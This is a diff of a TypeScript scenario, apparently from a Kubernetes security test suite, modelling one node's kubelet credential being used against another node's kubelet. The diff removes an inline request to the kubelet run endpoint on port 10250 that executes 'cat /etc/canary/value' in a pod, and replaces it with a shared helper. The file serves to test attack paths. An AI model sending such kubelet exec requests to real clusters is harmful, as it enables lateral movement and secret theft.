@@ -1,6 +1,7 @@
 /**
  * worker-1's kubelet credential  --TLS-->  kubelet of worker-2  --SubjectAccessReview-->  kube-apiserver
  */
+import { secretByKubelet } from '../../lib/attacker/reach-goal.ts'
 import { fallen } from '../../lib/scenario/footholds.ts'
 import { scenario } from '../../lib/scenario/scenario.ts'
 
@@ -33,11 +34,6 @@ export default scenario({
     },
   ],
   async attempt(world) {
-    const { namespace, pod, node } = world.goal
-    const { body } = await world.request(`https://${world.network.hosts[node]}:10250`, {
-      method: 'POST',
-      path: `/run/${namespace}/${pod}/main?cmd=cat%20/etc/canary/value`,
-    })
-    return [body]
+    return secretByKubelet(world)
   },
 })
